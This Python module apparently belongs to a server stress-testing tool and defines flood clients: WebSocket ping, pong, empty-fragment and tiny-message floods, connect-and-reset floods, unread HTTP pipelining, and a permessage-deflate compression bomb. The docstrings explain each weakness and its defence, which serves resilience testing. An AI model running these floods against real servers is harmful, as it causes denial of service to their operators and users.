"""Floods: frames and requests that each cost the server more than the sender, sent as fast as the server reads."""

import zlib
from functools import cache, lru_cache
from typing import Final

import msgspec

from loadgen.clients.client import Attacker, Needs, Threat
from loadgen.clients.cohort import Place
from loadgen.net import wire
from loadgen.net.wire import BINARY, FIN, MORE, PING, PONG, RSV1, TEXT, frame
from loadgen.personas import persona
from loadgen.personas._requests import event_stream, nothing, page, post, post_head, upgrade, upgrading
from loadgen.personas._shapes import BLOCK_BYTES, Flooder, Welcome, fill
from loadgen.personas._websocket import FrameFlooder, encoded, join, publish


def _smallest_and_largest(opcode: int) -> tuple[bytes, bytes]:
    """The smallest cost the sender least; the largest stay below a limit on frames, and are echoed at full size."""
    return fill(frame(FIN | opcode)), fill(frame(FIN | opcode, bytes(125)))


@persona
class PingFlood(FrameFlooder):
    """WebSocket that sends pings at full speed, half of them empty and half as large as allowed.

    Each must be answered (RFC 6455 section 5.5.2), so a server that queues its answers grows without bound
    (CVE-2019-9512 is the same in HTTP/2), and a limit that counts only messages never applies.
    """

    blocks = _smallest_and_largest(PING)


@persona
class PongFlood(FrameFlooder):
    """WebSocket that sends unsolicited pongs at full speed, half of them empty and half as large as allowed.

    Legal as a heartbeat (RFC 6455 section 5.5.3) and ignored by nearly every library, after parsing each one.
    """

    blocks = _smallest_and_largest(PONG)


@persona
class TinyFrames(FrameFlooder):
    """WebSocket that publishes one-letter messages at full speed.

    All of it is valid, and a few dozen bytes each cost a parse, a commit and an answer. The defence is a limit on how
    often a user may publish, and closing a user that ignores `retry_after`.
    """

    needs = Needs.CHAT
    # In rooms of their own: the attack is on the server's time for each message. Delivering them to the victims would
    # load the generator itself.
    blocks = tuple(fill(publish(f"tiny-{room}", 1, "x")) for room in range(16))


@persona
class EmptyFragments(FrameFlooder):
    """WebSocket that begins a message and continues it with millions of empty frames.

    The message's size stays 0, so limits on bytes never apply: trio-websocket 0.12 kept 200,001 fragments with a limit
    of 1 KiB. Each six bytes cost a list entry and a run of the parser.
    """

    starts = (frame(TEXT),)
    blocks = (fill(frame(MORE)),)


@persona
class RoomChurn(FrameFlooder):
    """WebSocket that joins a room with other members and leaves it again, as fast as it can.

    A server that announces each join and leave to all members multiplies it by the room's size; presence has to be
    batched. Each join also asks for the room's latest messages: 40 bytes for 10 KB.
    """

    needs = Needs.CHAT

    def block(self) -> bytes:
        return fill(join(1, self.room) + encoded(type="leave", id=2, room=self.room))


@persona
class ConnectFlood(Attacker):
    """Connects and closes, as fast as it can; half of the clients close with RST.

    A server that accepts one connection a pass of its loop, or starts a thread before it has read a byte, gets nothing
    else done. After an RST accept() may fail with ECONNABORTED, after a FIN never.
    """

    silent = True
    threat = Threat.GREEDY
    opening = nothing

    def on_connected(self) -> None:
        super().on_connected()
        disconnect = self.abort if self.number % 2 else self.leave
        disconnect(return_in=0.0)


#: Rooms that the clients of `request-reset` post in; those that join have one each.
RESET_ROOMS: Final = 64


@persona
class RequestReset(Attacker):
    """Connects, sends a whole request and resets at once: a join, a post of 4 KB or a search.

    The bytes before an RST can still be read. A server that does so opens a room, commits a message or searches for a
    client that is gone, and so does ten times as much for each connection as it would have to. A server without a chat
    is asked for its page.
    """

    threat = Threat.GREEDY

    def opening(self) -> bytes:
        if not self.cohort.place.endpoint.is_chat:
            return page(self)
        match self.number % 3:
            case 0:
                return upgrade(self) + join(1, f"request-reset-{self.index}")
            case 1:
                # Servers that identify guests by address and agent give each client its own rate limit.
                agent = f"User-Agent: resetter-{self.index}"
                return post(self.cohort.place, f"request-reset-{self.index % RESET_ROOMS}", b"word " * 800, agent)
            case _:
                return self.cohort.place.request("GET", "/search?q=words&limit=20")

    def on_connected(self) -> None:
        super().on_connected()
        self.abort(return_in=0.0)


@persona
class Pipeline(Flooder):
    """Sends thousands of requests in one go and never reads an answer.

    Pipelining is legal (RFC 9112 section 9.3.2). A server that parses ahead queues requests, and a server that answers
    ahead queues answers, both in memory: a block of 16 KiB asks for several megabytes.
    """

    opening = page

    def on_connected(self) -> None:
        self.stop_reading()
        super().on_connected()


@persona
class SseFlood(Welcome, Flooder):
    """Opens an event stream and sends bytes behind the request, as fast as the server takes them.

    A client of an event stream has nothing to send after its request. A server that keeps reading buffers these bytes
    as the next request, or wakes for every block; a server that stops reading does not see the client's FIN.
    """

    needs = Needs.CHAT
    usual_clients = 2500  # each fills up to a few hundred KB of kernel memory, and a machine has a few GB of that
    opening = event_stream
    blocks = (b"x" * BLOCK_BYTES,)  # not a request


#: Unpacked size of a bomb: 1,000 times the bytes that are sent, the most that DEFLATE can do.
BOMB_BYTES: Final = 32 * 1024 * 1024
_PIECE_BYTES: Final = 1024 * 1024

_EXTENSION: Final = "permessage-deflate"


@persona
class CompressBomb(FrameFlooder):
    """WebSocket that asks for compression and sends 32 KB that unpack to 32 MiB, again and again.

    A limit on message size is useless if it applies to the compressed bytes, or only after unpacking. A server that
    does not accept the extension gets one compressed frame, which it must refuse.
    """

    opening = upgrading(f"Sec-WebSocket-Extensions: {_EXTENSION}")

    def on_upgraded(self, head: wire.Head) -> None:
        accepted = _EXTENSION in head.fields.get("sec-websocket-extensions", "")
        self.cohort.answers[f"{_EXTENSION} {'' if accepted else 'not '}accepted"] += 1
        self.hold()
        if accepted:
            self.flood()
        else:
            self.send(frame(FIN | RSV1 | BINARY, b"\0"))

    def block(self) -> bytes:
        return bomb()


@cache
def bomb() -> bytes:
    """A binary message of zeros, compressed as in RFC 7692.

    Each piece ends with a full flush, so it refers to nothing before it and can be repeated.
    """
    packer = zlib.compressobj(level=9, wbits=-zlib.MAX_WBITS)
    piece = packer.compress(bytes(_PIECE_BYTES)) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = piece * (BOMB_BYTES // _PIECE_BYTES)
    return frame(FIN | RSV1 | BINARY, packed.removesuffix(b"\0\0\xff\xff"))


#: Letters with the most marks allowed and a forbidden last character: checked to the end, then refused.
_MARKED: Final = ("a" + "\N{COMBINING ACUTE ACCENT}" * 8) * 450 + "\N{RIGHT-TO-LEFT OVERRIDE}"
#: An escape, which keeps a JSON parser off its fast path.
_ESCAPED: Final = msgspec.Raw(b'"\\u0041"')


def _objects(size: int) -> list[msgspec.Raw]:
    """Thousands of objects for a field that no server reads."""
    tiny = b'{"":1}'
    return [msgspec.Raw(tiny)] * (size // (len(tiny) + 1))


@persona
class LongMessages(FrameFlooder):
    """WebSocket that sends messages of the largest allowed size, at full speed.

    A third each: JSON of thousands of objects, texts refused for their last character, and history requests padded
    to fill a small read (1 KiB), so that none shares its read with the next. Each costs ten times as much as a tiny
    message.
    """

    needs = Needs.CHAT
    blocks = (
        fill(encoded(type="ping", id=_ESCAPED, more=_objects(15_000))),  # below chatserver's limit of 16 KiB
        fill(encoded(type="publish", id=1, room="long", text=_MARKED)),
    )

    def block(self) -> bytes:
        if self.number % 3 < 2:
            return self.blocks[self.number % 3]
        return fill(encoded(type="history", id=1, room=self.room, limit=200, more="x" * 730))


#: Rooms to post in, without members: the attack is on the server's time for each request.
_ROOMS: Final = 16


@lru_cache(_ROOMS)
def _request(place: Place, number: int) -> bytes:
    """Make a request; clients that send the same one share its bytes, up to 60 KB.

    It is below the limits of most servers: a head of 16 KiB (h11, IIS), 100 fields (Apache, Kestrel), 64 KiB of body
    and 64 chunks (chatserver).
    """
    room = f"long-{number}"
    match number % 4:
        case 0:
            return place.request("GET", place.path, "X-Long: " + "x" * 15_000)
        case 1:
            return place.request("GET", place.path, *(f"x{number}: y" for number in range(95)))
        case 2:
            body = msgspec.json.encode({"text": _ESCAPED, "more": _objects(60_000)})
            return post(place, room, body, content_type="application/json")
        case _:
            chunks = b"8\r\n12345678\r\n" * 60 + b"0\r\n\r\n"
            return post_head(place, room, "Transfer-Encoding: chunked") + chunks


@persona
class LongRequests(Flooder):
    """Sends requests of the largest allowed size, thousands ahead of the answers, and reads the answers.

    A quarter each: heads of one long field, heads of many fields, JSON of thousands of objects, bodies in small chunks.
    Each is well-formed and costs ten times as much as an ordinary request.
    """

    needs = Needs.CHAT

    def opening(self) -> bytes:
        return _request(self.cohort.place, self.number % _ROOMS)

    def on_data(self, data: bytes) -> None:
        """Discard the answers, so that unread ones do not stop the flood."""
